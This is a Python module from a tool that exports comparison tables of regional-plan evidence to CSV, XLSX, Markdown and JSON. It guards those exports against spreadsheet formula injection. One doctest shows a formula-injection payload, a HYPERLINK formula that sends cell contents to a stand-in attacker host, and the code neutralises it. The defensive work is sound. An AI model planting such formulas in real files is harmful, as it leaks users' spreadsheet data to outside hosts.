"""Write a comparison table as CSV, XLSX, Markdown or JSON, with quotes, sources and
a provenance block; and read each back (so exports can be checked and reloaded).

Every value comes from documents, manifests or a user's topic, so none is trusted in a
spreadsheet: exports carry no control characters (:func:`plain`), and a CSV cell that
a spreadsheet would read as a formula (one opening with ``=``, ``+``, ``-``, ``@``, a
tab or a carriage return) is prefixed with an apostrophe (:func:`inert`); in XLSX every
text is a string cell, never a formula, with its text unchanged.
"""

from __future__ import annotations

import csv
import io
import json
import logging
import re
from collections.abc import Sequence
from dataclasses import asdict
from pathlib import Path
from typing import Any

from regionplans.compare.table import Cell, ComparisonTable
from regionplans.errors import ConfigError

log = logging.getLogger(__name__)

FORMATS: tuple[str, ...] = ("csv", "xlsx", "md", "json")
COLUMNS: tuple[str, ...] = (
    "row", "group", "column", "label", "triggers", "deadlines", "amounts", "confidence",
    "empty_reason", "searched_documents", "evidence_n", "quote", "title", "publisher",
    "heading_path", "page", "date", "source", "secondary",
)  # fmt: skip


_CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def plain(value: Any) -> Any:
    """``value`` without control characters (tab and line breaks kept), if it is text.

    >>> plain("Region" + chr(0) + " Skåne" + chr(8))
    'Region Skåne'
    """
    return _CONTROL.sub("", value) if isinstance(value, str) else value


def risky(value: Any) -> bool:
    """Whether a spreadsheet would take text ``value`` for a formula."""
    return isinstance(value, str) and value.lstrip(" ").startswith(FORMULA_START)


def inert(value: Any) -> Any:
    """``value`` as a CSV cell no spreadsheet evaluates: control characters dropped, and
    an apostrophe before text that opens like a formula.

    >>> print(inert('=HYPERLINK("http://evil.example/?"&A2)'))
    '=HYPERLINK("http://evil.example/?"&A2)
    >>> inert(-3), inert("- en punkt")
    (-3, "'- en punkt")
    """
    value = plain(value)
    return "'" + value if risky(value) else value


def _source(ev: Any) -> str:
    return ev.source_url or ev.file_path or ev.doc_name


def cell_rows(table: ComparisonTable) -> list[dict[str, Any]]:
    """One flat row per evidence passage (one row for an empty cell)."""
    out: list[dict[str, Any]] = []
    for c in table.cells:
        base = {
            "row": c.row, "group": c.group, "column": c.column, "label": c.label,
            "triggers": "; ".join(c.triggers), "deadlines": "; ".join(c.deadlines),
            "amounts": "; ".join(c.amounts), "confidence": c.confidence,
            "empty_reason": c.empty_reason or "", "searched_documents": c.searched_documents,
        }  # fmt: skip
        if not c.evidence:
            out.append(base | {"evidence_n": 0, "quote": "", "title": "", "publisher": "",
                               "heading_path": "", "page": "", "date": "", "source": "",
                               "secondary": ""})  # fmt: skip
        for i, ev in enumerate(c.evidence, 1):
            out.append(base | {
                "evidence_n": i, "quote": ev.quote, "title": ev.title, "publisher": ev.publisher,
                "heading_path": " > ".join(ev.heading_path), "page": ev.page_number,
                "date": ev.date or "", "source": _source(ev), "secondary": "yes" if ev.secondary else "no",
            })  # fmt: skip
    return out


def _provenance_lines(table: ComparisonTable) -> list[tuple[str, str]]:
    return [(k, json.dumps(v, ensure_ascii=False) if not isinstance(v, str) else v)
            for k, v in table.provenance.items()]  # fmt: skip


def to_json(table: ComparisonTable) -> str:
    """The table as JSON: topic, aspects, rows, cells (with evidence) and provenance."""
    data = {
        "topic": table.topic,
        "aspects": list(table.aspects),
        "rows": [list(r) for r in table.rows],
        "cells": [asdict(c) for c in table.cells],
        "provenance": table.provenance,
    }
    return json.dumps(data, ensure_ascii=False, indent=2)


def to_csv(table: ComparisonTable) -> str:
    """CSV: provenance lines starting with ``#``, then one line per evidence passage."""
    buf = io.StringIO()
    for k, v in _provenance_lines(table):
        buf.write(f"# {k}: {' '.join(str(plain(v)).split())}\n")
    writer = csv.DictWriter(buf, fieldnames=list(COLUMNS))
    writer.writeheader()
    writer.writerows({k: inert(v) for k, v in row.items()} for row in cell_rows(table))
    return buf.getvalue()


def _md(text: Any) -> str:
    return str(plain(text)).replace("|", "\\|").replace("\n", " ")


def to_md(table: ComparisonTable) -> str:
    """Markdown: an overview grid (label per cell), then every cell with its quotes."""
    cols = table.columns
    lines = [f"# {table.topic}", "", "| Row | Group | " + " | ".join(_md(c) for c in cols) + " |",
             "|---|---|" + "---|" * len(cols)]  # fmt: skip
    for row, group in table.rows:
        vals = []
        for col in cols:
            c = table.cell(row, col)
            vals.append(c.label if not c.empty_reason else f"– ({c.empty_reason})")
        lines.append(f"| {_md(row)} | {group} | " + " | ".join(vals) + " |")
    lines += ["", "## Evidence", ""]
    for c in table.cells:
        if not c.evidence:
            continue
        lines.append(f"### {c.row} — {c.column}: {c.label}")
        if c.triggers:
            lines.append(f"Triggers: {', '.join(c.triggers)}")
        if c.deadlines:
            lines.append(f"Deadlines: {', '.join(c.deadlines)}")
        if c.amounts:
            lines.append(f"Amounts: {', '.join(c.amounts)}")
        lines.append(f"Confidence: {c.confidence}")
        for ev in c.evidence:
            where = " > ".join(ev.heading_path)
            sec = " (secondary source)" if ev.secondary else ""
            lines.append(f"> {_md(ev.quote)}")
            lines.append(
                f"— *{_md(ev.title)}*{sec}, {where} p. {ev.page_number}, {ev.date or 'undated'}, {_source(ev)}"
            )
            lines.append("")
    lines += ["## Provenance", ""] + [f"- {k}: {_md(v)}" for k, v in _provenance_lines(table)]
    return "\n".join(lines) + "\n"


def write_xlsx(table: ComparisonTable, path: str | Path) -> Path:
    """An XLSX workbook: sheet "cells" (one line per evidence) and sheet "provenance"."""
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    assert ws is not None
    ws.title = "cells"
    _append(ws, list(COLUMNS))
    for r in cell_rows(table):
        _append(ws, [r[c] for c in COLUMNS])
    prov = wb.create_sheet("provenance")
    for k, v in _provenance_lines(table):
        _append(prov, [k, v])
    path = Path(path)
    wb.save(path)
    return path


def _append(sheet: Any, values: list[Any]) -> None:
    """A row of string cells that are never formulas (openpyxl makes any text opening
    with "=" one); cells that look like one are marked as text for Excel too."""
    sheet.append([plain(v) for v in values])
    for cell in sheet[sheet.max_row]:
        if isinstance(cell.value, str):
            cell.data_type = "s"
            if risky(cell.value):
                cell.quotePrefix = True


def write(table: ComparisonTable, path: str | Path, fmt: str) -> Path:
    """Write ``table`` to ``path`` in ``fmt`` (csv, xlsx, md, json)."""
    path = Path(path)
    if fmt == "xlsx":
        return write_xlsx(table, path)
    text = {"csv": to_csv, "md": to_md, "json": to_json}.get(fmt)
    if text is None:
        raise ConfigError(f"unknown export format {fmt!r}; choose one of {', '.join(FORMATS)}")
    path.write_text(text(table), encoding="utf-8", newline="")
    return path


def write_each(table: ComparisonTable, folder: Path, formats: Sequence[str] = ("csv", "xlsx", "md"),
               *, stem: str = "table") -> tuple[list[Path], list[tuple[str, str]]]:  # fmt: skip
    """Write ``table`` once per format into ``folder``, each independently of the others:
    the files written, and ``(format, error)`` for each format that failed."""
    written: list[Path] = []
    failed: list[tuple[str, str]] = []
    for fmt in formats:
        try:
            written.append(write(table, folder / f"{stem}.{fmt}", fmt))
        except Exception as exc:  # noqa: BLE001 - one export failing must not cost the others
            log.warning("cannot write the %s export of %r: %s", fmt, table.topic, exc)
            failed.append((fmt, f"{type(exc).__name__}: {exc}"))
    return written, failed


def write_csv(table: ComparisonTable, path: str | Path) -> Path:
    return write(table, path, "csv")


def write_md(table: ComparisonTable, path: str | Path) -> Path:
    return write(table, path, "md")


def write_json(table: ComparisonTable, path: str | Path) -> Path:
    return write(table, path, "json")


def read_rows(path: str | Path) -> list[dict[str, str]]:
    """Read the flat evidence rows back from a CSV or XLSX export (for checks)."""
    path = Path(path)
    if path.suffix == ".xlsx":
        from openpyxl import load_workbook

        ws = load_workbook(path, read_only=True)["cells"]
        values = [list(r) for r in ws.iter_rows(values_only=True)]
        head = [str(h) for h in values[0]]
        return [
            {h: ("" if v is None else str(v)) for h, v in zip(head, r, strict=False)}
            for r in values[1:]
        ]
    lines = [
        ln
        for ln in path.read_text(encoding="utf-8").splitlines(keepends=True)
        if not ln.startswith("# ")
    ]
    return list(csv.DictReader(io.StringIO("".join(lines))))


__all__ = ["FORMATS", "Cell", "cell_rows", "inert", "plain", "read_rows", "to_csv", "to_json", "to_md", "write",
           "write_csv", "write_each", "write_json", "write_md", "write_xlsx"]  # fmt: skip
